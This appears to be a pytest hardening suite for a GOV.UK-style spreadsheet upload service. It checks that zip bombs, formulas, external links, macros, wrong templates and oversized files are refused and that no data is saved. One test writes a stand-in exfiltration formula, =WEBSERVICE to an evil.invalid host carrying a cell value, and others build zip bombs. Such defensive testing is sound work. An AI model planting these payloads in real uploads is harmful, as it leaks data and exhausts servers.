"""Every upload attack, on both upload paths (the returns template and the client register):
refused with a message that says what to do, memory bounded, nothing saved."""

from __future__ import annotations

import io
import os
import time
from html import unescape

import pytest
from openpyxl import Workbook, load_workbook

from app.clients.spreadsheet import CLIENT_COLUMNS
from tests.conftest import LEAD_GSS, csrf_token
from tests.hardening.conftest import changed_tables, db_snapshot, peak_memory, rezip, workbook_bytes

RETURN_URL = f"/returns/{LEAD_GSS}/2019-07"
CLIENTS_UPLOAD = f"/clients/{LEAD_GSS}/upload"
FILLED = {
    "B8": 14,
    "B9": 3,
    "B10": 21000.5,
    "B11": 1500,
    "B12": 800,
    "B13": 700,
    "B14": 600,
    "B15": 500,
    "B16": 400,
    "B17": 0,
    "B18": 11.5,
    "B19": "Two people housed.",
    "B20": "Void times are long.",
}
GOOD_CLIENT = [
    "HF-1",
    "01/05/2019",
    "02/05/2019",
    "25 to 34",
    "Female",
    "Mental health",
    "2 to 5 years",
    None,
    None,
]
MB = 1024 * 1024


class ReturnsPath:
    name = "returns"
    sheet_part = "xl/worksheets/sheet1.xml"

    def good(self, client) -> bytes:
        workbook = load_workbook(io.BytesIO(client.get(f"{RETURN_URL}/template.xlsx").data))
        for ref, value in FILLED.items():
            workbook["Monthly return"][ref] = value
        return workbook_bytes(workbook)

    def with_formula(self, client) -> bytes:
        workbook = load_workbook(io.BytesIO(self.good(client)))
        workbook["Monthly return"]["B8"] = "=10+4"
        return workbook_bytes(workbook)

    def with_rows(self, client, count: int) -> bytes:
        workbook = load_workbook(io.BytesIO(self.good(client)))
        sheet = workbook["Monthly return"]
        for row in range(30, 30 + count):
            sheet.cell(row=row, column=1, value="padding")
        return workbook_bytes(workbook)

    def upload(self, client, content: bytes, filename="return.xlsx"):
        path = f"{RETURN_URL}/upload"
        return client.post(
            path,
            data={"csrf_token": csrf_token(client, path), "workbook": (io.BytesIO(content), filename)},
            content_type="multipart/form-data",
        )


class ClientsPath:
    name = "clients"
    sheet_part = "xl/worksheets/sheet1.xml"

    def good(self, client) -> bytes:
        return self.with_rows(client, 1)

    def with_formula(self, client) -> bytes:
        workbook = load_workbook(io.BytesIO(self.good(client)))
        workbook["Clients"]["D2"] = "=A1&B1"
        return workbook_bytes(workbook)

    def with_rows(self, client, count: int) -> bytes:
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("Clients")
        sheet.append(CLIENT_COLUMNS)
        for number in range(count):
            sheet.append([f"HF-{number}", *GOOD_CLIENT[1:]])
        return workbook_bytes(workbook)

    def upload(self, client, content: bytes, filename="clients.xlsx"):
        return client.post(
            CLIENTS_UPLOAD,
            data={
                "csrf_token": csrf_token(client, CLIENTS_UPLOAD),
                "workbook": (io.BytesIO(content), filename),
            },
            content_type="multipart/form-data",
        )


PATHS = [ReturnsPath(), ClientsPath()]


@pytest.fixture(params=PATHS, ids=lambda path: path.name)
def path(request):
    return request.param


@pytest.fixture
def lead(signed_in):
    return signed_in("lead")


def _refused(response, *messages: str) -> str:
    """The page re-shown with a GOV.UK error summary and each message."""
    page = unescape(response.get_data(as_text=True))
    assert response.status_code in (200, 400), response.status_code
    assert "govuk-error-summary" in page
    for message in messages:
        assert message in page, f"{message!r} not on the page"
    return page


def _attack(path, lead, content: bytes, *messages: str, filename: str | None = None) -> int:
    """Upload `content`, check it is refused with the messages and nothing changed;
    return the peak Python memory of the request."""
    return _attack_page(path, lead, content, *messages, filename=filename)[1]


def _attack_page(path, lead, content: bytes, *messages: str, filename: str | None = None):
    before = db_snapshot()
    kwargs = {"filename": filename} if filename else {}
    response, peak = peak_memory(lambda: path.upload(lead, content, **kwargs))
    page = _refused(response, *messages)
    assert changed_tables(before, db_snapshot()) == []
    return page, peak


def test_the_good_file_is_accepted_so_the_refusals_below_are_about_the_attack(path, lead):
    response = path.upload(lead, path.good(lead))
    assert response.status_code == 302, response.get_data(as_text=True)


def test_not_a_zip(path, lead):
    _attack(
        path, lead, b"Name,Date of birth\nJohn Smith,1970-01-01\n", "not a workbook this service can read"
    )
    _attack(path, lead, b"PK\x03\x04" + b"\x00" * 400, "not a workbook this service can read")


def test_zip_bomb_is_refused_from_its_declared_sizes_before_it_is_opened(path, lead):
    good = path.good(lead)
    bomb = rezip(good, big_part=(path.sheet_part, 300 * MB))  # inflates to 300 MB
    assert len(bomb) < 2 * MB
    started = time.perf_counter()
    peak = _attack(path, lead, bomb, "too big once opened")
    assert time.perf_counter() - started < 10
    assert peak < 20 * MB, f"peak {peak / MB:.1f} MB"
    # under the total cap, but one part inflates more than 100 times
    dense = rezip(good, big_part=(path.sheet_part, 20 * MB))
    peak = _attack(path, lead, dense, "expands to far more than its size")
    assert peak < 20 * MB, f"peak {peak / MB:.1f} MB"


def test_formulas_are_refused_by_cell(path, lead):
    page, _ = _attack_page(path, lead, path.with_formula(lead), "formula")
    assert ("Cell B8" in page) if path.name == "returns" else (">D2<" in page)


def test_a_formula_outside_the_cells_read_is_refused_too(path, lead):
    workbook = load_workbook(io.BytesIO(path.good(lead)))
    sheet = workbook["Monthly return" if path.name == "returns" else "Clients"]
    sheet["M2"] = '=WEBSERVICE("http://evil.invalid/?"&B3)'
    page, _ = _attack_page(path, lead, workbook_bytes(workbook), "formula")
    assert ("Cell M2 holds a formula" in page) if path.name == "returns" else (">M2<" in page)


def test_external_links_are_refused(path, lead):
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships"/></externalLink>'
    )
    content = rezip(path.good(lead), add={"xl/externalLinks/externalLink1.xml": link})
    _attack(path, lead, content, "links to other files")


def test_macros_are_refused(path, lead):
    good = path.good(lead)
    with_vba = rezip(good, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512})
    _attack(path, lead, with_vba, "contains macros")
    import zipfile

    types = zipfile.ZipFile(io.BytesIO(good)).read("[Content_Types].xml")
    macro_types = types.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    assert macro_types != types
    _attack(path, lead, rezip(good, replace={"[Content_Types].xml": macro_types}), "contains macros")
    _attack(path, lead, good, "must be an Excel workbook (.xlsx)", filename="return.xlsm")


def test_the_wrong_template_is_refused(path, lead):
    other = Workbook()
    other.active.title = "Sheet1"
    other.active.append(["Name", "Date of birth"])
    message = "not the monthly return template" if path.name == "returns" else "needs a sheet named Clients"
    _attack(path, lead, workbook_bytes(other), message)
    if path.name == "clients":
        wrong_columns = Workbook()
        wrong_columns.active.title = "Clients"
        wrong_columns.active.append(["Name", "Date of birth"])
        _attack(path, lead, workbook_bytes(wrong_columns), "Row 1 must name the columns")


def test_ten_thousand_rows_are_refused_quickly(path, lead):
    content = path.with_rows(lead, 10_000)
    started = time.perf_counter()
    message = "has more than 200 rows" if path.name == "returns" else "has more than 2,000 rows"
    peak = _attack(path, lead, content, message)
    assert time.perf_counter() - started < 20
    assert peak < 30 * MB, f"peak {peak / MB:.1f} MB"


def test_a_fifty_megabyte_file_gets_the_govuk_413_page(path, lead):
    token = csrf_token(lead, f"{RETURN_URL}/upload" if path.name == "returns" else CLIENTS_UPLOAD)
    url = f"{RETURN_URL}/upload" if path.name == "returns" else CLIENTS_UPLOAD
    before = db_snapshot()
    response = lead.post(
        url,
        data={"csrf_token": token, "workbook": (io.BytesIO(b"\0" * (50 * MB)), "big.xlsx")},
        content_type="multipart/form-data",
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert "govuk-template" in page and "The file is too large" in page
    assert "Upload a file smaller than 5 MB" in page
    assert changed_tables(before, db_snapshot()) == []


def test_a_file_just_over_the_upload_limit_is_refused_with_a_message(path, lead, app):
    app.config["MAX_UPLOAD_BYTES"] = 64 * 1024
    padding = rezip(path.good(lead), add={"docProps/padding.bin": os.urandom(100_000)})
    assert len(padding) > 64 * 1024
    _attack(path, lead, padding, "The file must be smaller than 64 KB")
